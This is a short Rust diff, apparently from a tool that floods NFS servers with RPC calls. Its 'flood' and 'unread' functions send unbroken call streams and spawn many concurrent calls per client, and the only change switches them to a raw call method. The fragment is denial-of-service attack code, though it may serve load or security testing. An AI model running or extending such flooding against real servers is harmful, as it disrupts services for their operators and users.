@@ -132,7 +132,7 @@ pub(crate) async fn flood(
                     let mut number = number << 20 | lane << 12;
                     while let Ok(call) = call.call(number) {
                         // After the error of a call the attack goes on.
-                        let _ = client.call(call).await;
+                        let _ = client.call_raw(call).await;
                         number += 1;
                     }
                 });
@@ -163,7 +163,7 @@ pub(crate) async fn unread(
                 let Ok(client) = client(address).await else { continue };
                 // The first reply brings the credits.
                 let null = RpcCall::new(NFS_PROGRAM, NFS_VERSION, 0);
-                if client.call(null).await.is_ok() {
+                if client.call_raw(null).await.is_ok() {
                     clients.push(client);
                 }
             }
@@ -172,7 +172,7 @@ pub(crate) async fn unread(
         for client in clients {
             for number in 0..64 {
                 let (client, call) = (client.clone(), call.call(number)?);
-                tasks.spawn(async move { client.call(call).await });
+                tasks.spawn(async move { client.call_raw(call).await });
             }
         }
         sleep(length).await;
